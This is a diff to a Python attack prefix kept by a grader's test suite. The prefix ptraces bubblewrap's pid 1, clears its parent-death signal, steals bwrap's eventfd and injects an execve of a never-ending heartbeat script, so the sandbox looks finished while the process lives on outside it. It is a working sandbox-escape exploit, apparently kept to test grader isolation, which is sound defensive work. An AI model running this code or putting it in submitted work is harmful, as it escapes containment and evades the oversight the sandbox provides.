@@ -1,6 +1,8 @@
-# Found by an adversarial review (2026-11-29): code in the sandbox ptraces bubblewrap's pid 1 (same uid, dumpable),
-# clears its parent-death signal and makes it exec a script that never exits (a heartbeat file every 0.5 s).
-# Prepended to a kernel by tests/test_grader.py; needs x86-64 and ptrace of an ancestor allowed (Yama scope 0).
+# Found by adversarial reviews (2026-11-29): code in the sandbox ptraces bubblewrap's pid 1 (same uid, dumpable),
+# clears its parent-death signal, copies bwrap's eventfd out of it (pidfd_getfd) and makes it exec a script that
+# never exits (a heartbeat file every 0.5 s), then writes 1 to the eventfd: the outer bwrap takes it for the
+# command's exit and exits, leaving pid 1 running outside bwrap's process group and parentage.
+# Prepended to a kernel or run as a script by the tests; needs x86-64 and ptrace of an ancestor allowed (Yama 0).
 import ctypes as _ct, os as _os, sys as _sys, struct as _st
 def _hijack():
     _d = _os.path.dirname(_os.path.abspath(__file__))
@@ -44,6 +46,11 @@ def _hijack():
         out = Regs(); libc.ptrace(12, 1, None, _ct.byref(out))
         return _ct.c_longlong(out.rax).value
     L("prctl(PR_SET_PDEATHSIG, 0) ->", syscall(157, 1, 0))
+    libc.syscall.restype = _ct.c_long
+    _pfd = libc.syscall(434, 1, 0)  # pidfd_open(1)
+    _efd = libc.syscall(438, _pfd, 4, 0)  # pidfd_getfd(pidfd, 4): bwrap's eventfd
+    L("pidfd", _pfd, "eventfd copy", _efd, _os.readlink("/proc/self/fd/%d" % _efd) if _efd >= 0 else _os.strerror(_ct.get_errno()))
+    global _EFD; _EFD = _efd
     # strings and argv on pid 1's stack, well below its rsp
     base = (saved.rsp - 8192) & ~0xf
     strs = [_sys.executable.encode() + b"\0", _persist.encode() + b"\0"]
@@ -61,9 +68,11 @@ def _hijack():
     _os.waitpid(1, 0x40000000)
     libc.ptrace(17, 1, None, None)  # DETACH, no signal
     L("execve injected; detached")
+    _os.write(_EFD, _st.pack("<Q", 1))  # outer bwrap reads "exit code 0" and exits; pid 1 lives on
+    L("eventfd written")
 try:
     _hijack()
 except Exception as _e:
     import traceback as _tb
     open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "hijack.log"), "a").write(_tb.format_exc())
-# --- end of attack prefix ---
+# --- end of attack prefix (v2) ---
